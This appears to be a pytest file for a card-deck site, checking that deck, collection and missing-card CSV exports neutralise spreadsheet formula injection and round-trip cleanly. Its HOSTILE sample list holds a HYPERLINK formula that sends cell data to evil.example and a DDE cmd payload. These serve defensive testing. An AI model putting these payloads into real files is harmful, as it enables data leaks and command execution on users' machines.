"""Every CSV the site writes is safe to open in a spreadsheet: a cell that would be read as a
formula (= + - @ tab CR first) is written with a ' before it, and read back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collection.csv_format import (
    Counts,
    parse_collection_csv,
    render_collection_csv,
    render_missing_csv,
)
from decks.formats.card_refs import CardRef
from decks.formats.csv_cells import TRIGGERS, cell_in, cell_out
from decks.formats.csv_format import parse_csv, render_csv
from decks.formats.text import CatalogueResolver
from rules.decklist import DeckEntry, Decklist

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "'=already quoted", "''@twice"]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''-x", "'''-x"),
    ("Bell Tower", "Bell Tower"), ("'Tis", "'Tis"), ("a=b", "a=b"), ("", ""), ("3", "3"),
    (3, "3"),
])
def test_a_cell_a_spreadsheet_would_compute_is_written_as_text(value: object,
                                                                written: str) -> None:
    assert cell_out(value) == written
    assert cell_in(written) == str(value)


@given(st.text())
def test_every_cell_reads_back_as_it_was_written(text: str) -> None:
    written = cell_out(text)
    assert written[:1] not in TRIGGERS or written == ""
    assert cell_in(written) == text


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell[:1] in tuple(TRIGGERS)]


CATALOGUE = [CardRef(f"x-card-{n}", name, "wanderer", None) for n, name in enumerate(HOSTILE)]
CARDS = {card.id: card for card in CATALOGUE}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_deck_csv_neutralises_formulas_and_reads_them_back(hostile: str) -> None:
    deck = Decklist(name=hostile, players=4, description=hostile,
                wanderers=tuple(DeckEntry(card.id, 1) for card in CATALOGUE))
    text = render_csv(deck, CARDS)
    assert formulas(text) == []
    assert parse_csv(text, CatalogueResolver(CATALOGUE)) == deck


def test_the_collection_csv_neutralises_card_names_and_reads_them_back() -> None:
    counts = {card.id: Counts(1, 0, 0) for card in CATALOGUE}
    text = render_collection_csv((card, counts[card.id]) for card in CATALOGUE)
    assert formulas(text) == []
    assert parse_collection_csv(text, CATALOGUE) == counts
    # A file naming the cards (no ids) reads the neutralised names as the cards' own.
    named = CATALOGUE[:4]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["name", "owned"], *([cell_out(c.name), 1] for c in named)])
    assert parse_collection_csv(buffer.getvalue(), CATALOGUE) == {c.id: Counts(1, 0, 0)
                                                                  for c in named}


def test_the_missing_cards_csv_neutralises_card_names() -> None:
    text = render_missing_csv((card, 2) for card in CATALOGUE)
    assert formulas(text) == []
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [cell_in(name) for _, name, _ in rows] == HOSTILE


@pytest.mark.django_db
def test_a_deck_exported_as_csv_by_the_api_carries_no_formula(ada: object) -> None:
    from decks.models import Deck
    from decks.services import deck_data, deck_save

    sample = Deck.objects.get(owner__username="samples", name="Guild Merchants")
    owner = Deck.objects.get(pk=sample.pk).owner
    deck = deck_save(owner=owner, data=deck_data(sample), visibility=Deck.PUBLIC)
    Deck.objects.filter(pk=deck.pk).update(name=HOSTILE[0])
    text = ada.get(f"/api/decks/{deck.pk}/export/?to=csv").content.decode()  # type: ignore[attr-defined]
    assert formulas(text) == [] and f"'{HOSTILE[0]}" in cells(text)
